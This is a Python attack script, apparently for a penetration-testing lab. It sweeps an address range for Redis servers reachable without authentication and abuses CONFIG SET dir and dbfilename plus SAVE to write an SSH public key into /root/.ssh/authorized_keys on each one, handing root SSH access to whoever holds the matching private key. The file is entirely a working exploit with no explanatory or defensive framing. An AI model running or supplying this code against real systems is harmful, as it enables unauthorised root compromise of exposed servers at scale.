import socket
import sys

import redis

KEY = "\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABfake lab@pen.example\n\n"


def reachable(ip):
    try:
        socket.create_connection((ip, 6379), 0.5).close()
        return True
    except OSError:
        return False


for last in range(1, 255):
    ip = f"192.0.2.{last}"
    if not reachable(ip):
        continue
    r = redis.Redis(ip, socket_timeout=3)
    try:
        print(ip, r.info("server")["redis_version"])
        r.set("pub", KEY)
        r.config_set("dir", "/root/.ssh")
        r.config_set("dbfilename", "authorized_keys")
        r.save()
    except redis.RedisError as e:
        print(ip, e, file=sys.stderr)
